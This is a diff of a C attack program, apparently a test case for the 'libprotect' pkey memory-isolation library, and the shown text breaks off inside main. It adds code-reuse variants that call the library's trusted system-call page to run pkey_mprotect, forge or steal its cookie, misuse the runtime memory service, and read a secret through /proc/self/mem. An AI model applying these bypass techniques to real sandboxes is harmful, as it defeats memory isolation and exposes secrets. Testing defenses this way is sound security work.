@@ -1,25 +1,97 @@
-/* Code reuse into libprotect's trusted system-call page (the filter lets
- * every call from it through): found from the restorer of any handler
- * libprotect installed, called to give the library's data back key 0. */
+/* Code reuse into libprotect's trusted system-call page (outside the
+ * filter's scope), found from the restorer of any handler libprotect
+ * installed:
+ *   (none)    its plain entry, called to give the library's data back key 0
+ *             (pkey_mprotect): a memory call without the runtime's cookie;
+ *   guess     its cookie entry, handed a cookie of the attacker's making;
+ *   cookie    its cookie entry, handed the runtime's own cookie page (found
+ *             in libprotect's sealed state, which anyone may read);
+ *   runtime   the runtime domain's RT_MEMORY service asked for the same
+ *             pkey_mprotect (protect_service, slot 15);
+ *   proc-mem  its plain entry for a call that is not a memory call: an
+ *             open of /proc/self/mem, then a read of the secret there. */
 #define _GNU_SOURCE
 #include "attack.h"
+#include "libprotect_symbols.h"
 
+#include <fcntl.h>
 #include <signal.h>
 #include <sys/mman.h>
 #include <sys/syscall.h>
 #include <unistd.h>
 
-int main(void)
+#define RT_SLOT 15
+#define RT_MEMORY 0
+
+typedef long (*page_call)(long, long, long, long, long, long, long);
+typedef long (*cookie_call)(long, long, long, long, long, long, long, const uint64_t *);
+
+static uintptr_t page_start(void)
 {
-    vault_open();
     struct { void *handler; unsigned long flags; void *restorer; uint64_t mask; } k;
     syscall(SYS_rt_sigaction, SIGSEGV, NULL, &k, 8);
     if (!k.restorer)
         blocked("no restorer to follow");
-    /* The page starts with long fn(long nr, long a0, ..., long a5). */
-    long (*page_syscall)(long, long, long, long, long, long, long) = (void *)((uintptr_t)k.restorer & ~4095ul);
+    return (uintptr_t)k.restorer & ~4095ul;
+}
+
+/* The cookie entry: the page's offset of it, from libprotect's symbols. */
+static cookie_call cookie_entry(uintptr_t page)
+{
+    const uint64_t *off = libprotect_symbol("protect_trusted_cookie_call_offset");
+    if (!off)
+        blocked("the page's cookie entry not found");
+    return (cookie_call)(page + *off);
+}
+
+/* Where the runtime's cookie lies: the word after the cookie entry's
+ * address in libprotect's sealed pages (trusted_syscall.c's record). */
+static const uint64_t *cookie_place(uintptr_t entry)
+{
+    struct mapping m[64];
+    int n = libprotect_mappings(m, 64);
+    for (int i = 0; i < n; i++) {
+        if (m[i].perms[0] != 'r')
+            continue;
+        for (const uint64_t *w = (const uint64_t *)m[i].lo; (uintptr_t)(w + 2) <= m[i].hi; w++)
+            if (*w == entry && w[1])
+                return (const uint64_t *)w[1];
+    }
+    blocked("the cookie's place not found (no runtime domain?)");
+}
+
+int main(int argc, char **argv)
+{
+    const char *how = argc > 1 ? argv[1] : "";
+    vault_open();
+    uintptr_t page = page_start();
     struct vault_cell *c = vault_address(VAULT_DATA);
-    long r = page_syscall(SYS_pkey_mprotect, (long)c & ~4095l, 4096, PROT_READ | PROT_WRITE, 0, 0, 0);
+    long lo = (long)c & ~4095l, r;
+    if (!strcmp(how, "proc-mem")) {
+        long fd = ((page_call)page)(SYS_openat, AT_FDCWD, (long)"/proc/self/mem", O_RDWR, 0, 0, 0);
+        if (fd < 0)
+            blocked("/proc/self/mem not opened through the page");
+        uint8_t copy[VAULT_SECRET_LEN];
+        if (pread((int)fd, copy, sizeof copy, (off_t)(uintptr_t)c->secret) != (ssize_t)sizeof copy)
+            blocked_errno("pread of /proc/self/mem");
+        read_secret_at(VAULT_DATA, copy);
+    }
+    if (!strcmp(how, "guess")) {
+        static const uint64_t guess = 0x0123456789abcdefull;
+        r = cookie_entry(page)(SYS_pkey_mprotect, lo, 4096, PROT_READ | PROT_WRITE, 0, 0, 0, &guess);
+    } else if (!strcmp(how, "cookie")) {
+        cookie_call entry = cookie_entry(page);
+        r = entry(SYS_pkey_mprotect, lo, 4096, PROT_READ | PROT_WRITE, 0, 0, 0, cookie_place((uintptr_t)entry));
+    } else if (!strcmp(how, "runtime")) {
+        uintptr_t (*service)(int, unsigned, uint64_t *) = libprotect_symbol("protect_service");
+        if (!service)
+            blocked("the service gate not found");
+        uint64_t io[16] = {SYS_pkey_mprotect, (uint64_t)lo, 4096, PROT_READ | PROT_WRITE, 0};
+        r = (long)service(RT_SLOT, RT_MEMORY, io);
+    } else {
+        /* The page starts with long fn(long nr, long a0, ..., long a5). */
+        r = ((page_call)page)(SYS_pkey_mprotect, lo, 4096, PROT_READ | PROT_WRITE, 0, 0, 0);
+    }
     if (r != 0) {
         char msg[64];
         snprintf(msg, sizeof msg, "pkey_mprotect through the page failed (%ld)", r);
